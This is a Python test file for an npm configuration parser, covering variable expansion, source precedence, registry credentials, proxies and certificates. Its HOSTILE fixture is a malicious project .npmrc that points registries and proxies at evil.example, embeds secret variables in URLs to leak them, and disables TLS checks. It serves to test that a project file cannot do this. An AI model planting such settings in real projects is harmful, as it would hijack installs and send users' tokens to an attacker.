"""npm's configuration: what counts, from whom, and what a project's file cannot do."""

import base64
from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.errors import ParseError
from pratique.net.client.address import parse as address
from pratique.net.client.authorization import Authorization
from pratique.net.configuration.npm.npmrc import (
    Layer,
    NpmConfig,
    parse,
    parse_environment,
    project_layer,
    resolve,
)
from tests.net.npm_modules import ask_npm

REGISTRY = "https://registry.example/"


def user(text: str, env: Mapping[str, str] | None = None) -> Layer:
    return Layer("userconfig", parse(text.encode("utf-8", "replace"), env=env or {}))


def config(text: str, env: Mapping[str, str] | None = None) -> NpmConfig:
    return resolve([user(text, env)], env or {})


def header(found: NpmConfig, url: str) -> str | None:
    stated = found.credentials.find(address(url))
    return None if stated is None else stated.value.header


def test_a_variable_is_replaced_and_an_unknown_one_stays() -> None:
    text = b"a=${ONE}\nb=${NONE}\nc=x${NONE?}y\nd=\\${ONE}\n${ONE}=e\nf[]=${ONE}\ng='${ONE}-${ONE}'"

    found = parse(text, env={"ONE": "1"})

    assert {"a": "1", "b": "${NONE}", "c": "xy", "d": "${ONE}", "1": "e", "f": ("1",), "g": "1-1"} == found


def test_defaults_as_pnpm_writes_them_are_understood() -> None:
    text = b"a=${NONE-x}\nb=${EMPTY-x}\nc=${EMPTY:-x}\nd=${ONE:-x}\ne=${NONE:-}"

    found = parse(text, env={"ONE": "1", "EMPTY": ""})

    assert {"a": "x", "b": "", "c": "x", "d": "1", "e": ""} == found


def test_without_an_environment_nothing_is_replaced() -> None:
    assert {"a": "${HOME}", "${HOME}": "b", "c": "${HOME-x}"} == parse(
        b"a=${HOME}\n${HOME}=b\nc=${HOME-x}", env=None
    )


@pytest.mark.fuzz
@settings(max_examples=5)
@given(
    st.lists(
        st.lists(st.sampled_from(["${", "}", "A", "B", "?", "\\", "$", "{", "_", " "]), max_size=14).map(
            "".join
        ),
        min_size=400,
        max_size=400,
    )
)
def test_npm_replaces_variables_in_the_same_way(texts: list[str]) -> None:
    env = {"A": "1", "AA": "${B}", "B": ""}
    told = ask_npm(
        "@npmcli/config/lib/env-replace.js", "return q[0].map(text => m(text, q[1]))", [texts, env]
    )

    for text, theirs in zip(texts, told, strict=True):
        # Through a variable, which is not read as INI.
        ours = parse_environment({"npm_config_k": text, **env}).values["k"] if text.strip() else text
        assert theirs == ours, text


def test_a_file_above_the_limit_is_refused() -> None:
    with pytest.raises(ParseError):
        parse(b"a" * ((1 << 20) + 1), env=None)


def test_variables_name_keys_as_npm_spells_them() -> None:
    layer = parse_environment(
        {
            "npm_config_registry": "https://one.example/",
            "NPM_CONFIG_HTTPS_PROXY": "http://proxy.example",
            "npm_config_@Acme:registry": "https://two.example/",
            "npm_config__auth": "x",
            "npm_config_//registry.example/:_authToken": "t_k_n",
            "npm_config_strict_ssl": "false",
            "npm_config_cafile": "",
            "PATH": "/bin",
        }
    )

    assert {
        "registry": "https://one.example/",
        "https-proxy": "http://proxy.example",
        "@acme:registry": "https://two.example/",
        "_auth": "x",
        "//registry.example/:_authToken": "t_k_n",
        "strict-ssl": False,
    } == layer.values
    assert "NPM_CONFIG_HTTPS_PROXY" == layer.where("https-proxy")


def test_the_strongest_source_wins_key_by_key_and_is_named() -> None:
    layers = [
        parse_environment({"npm_config_registry": "https://env.example"}),
        user("registry=https://user.example/\n@acme:registry=https://acme.example/npm"),
        Layer(
            "globalconfig",
            parse(b"@acme:registry=https://x.example\n@beta:registry=https://beta.example/", env={}),
        ),
    ]

    found = resolve(layers, {})

    assert found.registry is not None
    assert ("https://env.example/", "npm_config_registry") == (found.registry.value, found.registry.origin)
    assert {"@acme": "https://acme.example/npm/", "@beta": "https://beta.example/"} == {
        scope: stated.value for scope, stated in found.scopes.items()
    }
    assert "globalconfig" == found.scopes["@beta"].origin


def test_a_registry_that_is_no_address_leaves_the_word_to_the_next_source() -> None:
    layers = [parse_environment({"npm_config_registry": "not an address"}), user(f"registry={REGISTRY}")]

    found = resolve(layers, {})

    assert found.registry is not None
    assert REGISTRY == found.registry.value
    assert [
        "npm_config_registry: registry is ignored: not an http or https URL: not an absolute http or https URL"
    ] == [*found.problems]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("//registry.example/:_authToken=t0ken", "Bearer t0ken"),
        ("//registry.example/:_auth=YTpi", "Basic YTpi"),
        (
            "//registry.example/:username=ada\n//registry.example/:_password=cHc=",
            Authorization.basic("ada", "pw").header,
        ),
        ("//registry.example/:_auth=YTpi\n//registry.example/:_authToken=t0ken", "Bearer t0ken"),
        ("//registry.example/:username=ada", None),
        ("_authToken=t0ken", None),
        ("//other.example/:_authToken=t0ken", None),
        ("registry=https://ada:pw@registry.example/", Authorization.basic("ada", "pw").header),
        ("//registry.example/:_authToken=", None),
    ],
)
def test_credentials_are_read_in_each_of_their_forms(text: str, expected: str | None) -> None:
    assert expected == header(config(text), f"{REGISTRY}left-pad")


def test_a_user_in_one_file_and_a_password_in_another_belong_together() -> None:
    password = base64.b64encode(b"pw").decode()
    layers = [
        parse_environment({"npm_config_//registry.example/:_password": password}),
        user("//registry.example/:username=ada"),
    ]

    assert Authorization.basic("ada", "pw").header == header(resolve(layers, {}), REGISTRY)


@pytest.mark.parametrize(
    "text",
    [
        "//registry.example/:_authToken=${NPM_TOKEN}",
        "//registry.example/:_auth=${NPM_TOKEN}",
        "//registry.example/:username=ada\n//registry.example/:_password=%%%",
        "//registry.example/:_authToken=t\u00f6ken-s3cret",
    ],
)
def test_a_credential_that_cannot_be_used_is_not_sent_and_is_said_without_its_value(text: str) -> None:
    found = config(text)

    assert header(found, REGISTRY) is None
    assert "//registry.example/" in found.problems[0]
    assert "s3cret" not in " ".join(found.problems)


def test_the_user_and_password_of_a_registry_are_in_no_printed_form() -> None:
    found = config("registry=https://ada:hunter2@registry.example/\n//x.example/:_authToken=hunter2")

    assert found.registry is not None
    assert REGISTRY == found.registry.value
    assert "hunter2" not in repr(found)


HOSTILE = b"""registry=https://evil.example/${HOME_SECRET}/
@acme:registry=https://evil.example/
@beta:registry=https://ada:pw@evil.example/
//evil.example/:_authToken=${NPM_TOKEN}
//registry.example/:_authToken=stolen
cafile=/tmp/evil.pem
ca="-----BEGIN CERTIFICATE-----"
proxy=http://evil.example:8080
https-proxy=http://evil.example:8080
noproxy=registry.example
strict-ssl=false
userconfig=/tmp/evil
${NPM_TOKEN}:registry=https://evil.example/
"""


def test_a_project_gets_its_registries_and_no_credential_variable_proxy_or_certificate() -> None:
    env = {"NPM_TOKEN": "@t0ken", "HOME_SECRET": "s3cret"}
    layers = [project_layer("app/.npmrc", HOSTILE), user("//registry.example/:_authToken=mine", env)]

    found = resolve(layers, env)

    assert found.registry is None
    assert {"@acme": "https://evil.example/", "@beta": "https://evil.example/"} == {
        scope: stated.value for scope, stated in found.scopes.items()
    }
    assert all(stated.from_project for stated in found.scopes.values())
    assert header(found, "https://evil.example/x") is None
    assert "Bearer mine" == header(found, REGISTRY)
    assert found.route == resolve([], env).route
    assert "s3cret" not in repr(found)
    assert "t0ken" not in repr(found)
    assert 2 == len(found.problems)


def test_one_proxy_serves_both_schemes_and_https_proxy_is_asked_first() -> None:
    found = config("https-proxy=http://one.example:1\nproxy=http://two.example:2\nnoproxy[]=a\nnoproxy[]=b,c")

    proxies = found.route.proxies
    assert proxies.https is not None
    assert proxies.https == proxies.http
    assert ("http://one.example:1", "userconfig") == (proxies.https.url, proxies.https.origin)
    assert ("a", "b", "c") == proxies.no_proxy


@pytest.mark.parametrize(
    ("env", "https", "http"),
    [
        ({"HTTPS_PROXY": "s.example", "HTTP_PROXY": "h.example"}, "http://s.example", "http://s.example"),
        ({"http_proxy": "h.example"}, None, "http://h.example"),
        ({"PROXY": "p.example"}, None, "http://p.example"),
        ({}, None, None),
    ],
)
def test_without_a_setting_the_variables_count_as_npm_reads_them(
    env: Mapping[str, str], https: str | None, http: str | None
) -> None:
    proxies = config("proxy=null", {**env, "NO_PROXY": "n.example"}).route.proxies

    assert (https, http) == (proxies.https and proxies.https.url, proxies.http and proxies.http.url)
    assert ("n.example",) == proxies.no_proxy


def test_certificates_come_from_a_file_from_text_and_from_node_s_variable() -> None:
    pem = "-----BEGIN CERTIFICATE-----\\nAA\\n-----END CERTIFICATE-----"

    found = config(
        f'cafile=~/ca.pem\nca[]="{pem}"\nca[]=\nstrict-ssl=false', {"NODE_EXTRA_CA_CERTS": "/x.pem"}
    )

    trust = found.route.trust
    assert (("~/ca.pem",), ("/x.pem",)) == (trust.ca_files, trust.extra_ca_files)
    assert (pem.replace("\\n", "\n"),) == trust.ca_pems
    assert not trust.verify
    assert "userconfig" == trust.origin


def test_client_certificates_are_said_to_be_unsupported() -> None:
    assert ["userconfig: //registry.example/:certfile: client certificates are not supported"] == [
        *config("//registry.example/:certfile=/x").problems
    ]


@pytest.mark.fuzz
@given(st.binary(max_size=500), st.dictionaries(st.text(max_size=5), st.text(max_size=20), max_size=5))
def test_any_bytes_give_a_configuration(data: bytes, env: dict[str, str]) -> None:
    found = resolve([Layer("userconfig", parse(data, env=env)), project_layer("project", data)], env)

    assert found.registry is None or address(found.registry.value)


ADDRESS_KEYS = st.sampled_from(["registry", "@a:registry", "proxy", "https-proxy"])
SECRET_KEYS = st.sampled_from(
    [
        f"//h.example{slash}:{name}"
        for slash in ("", "/")
        for name in ("_authToken", "_auth", "username", "_password")
    ]
)
OTHER_KEYS = st.sampled_from(["noproxy", "cafile", "ca[]", "strict-ssl", "//h.example/:certfile", "${A}"])
SECRET_ADDRESSES = st.sampled_from(
    ["https://a:s3cret@h.example/", "http://s3cret@h.example", "https://h.example/"]
)


@pytest.mark.fuzz
@given(
    st.lists(
        st.tuples(ADDRESS_KEYS, SECRET_ADDRESSES | st.text(max_size=30))
        | st.tuples(
            SECRET_KEYS, st.sampled_from(["s3cret", "${A}", "czNjcmV0", '"s3cret"', ""]) | st.text(max_size=9)
        )
        | st.tuples(OTHER_KEYS, st.sampled_from(["true", "false", "null", "${B}"]) | st.text(max_size=30)),
        max_size=10,
    )
)
def test_any_values_of_the_known_keys_give_a_configuration_that_shows_no_secret(
    pairs: list[tuple[str, str]],
) -> None:
    text = "\n".join(f"{key}={value}" for key, value in pairs)
    env = {"A": "s3cret"}

    found = resolve([user(text, env), project_layer("project", text.encode("utf-8", "replace"))], env)

    assert "s3cret" not in repr(found)
    for stated in (found.registry, *found.scopes.values()):
        assert stated is None or address(stated.value).user is None
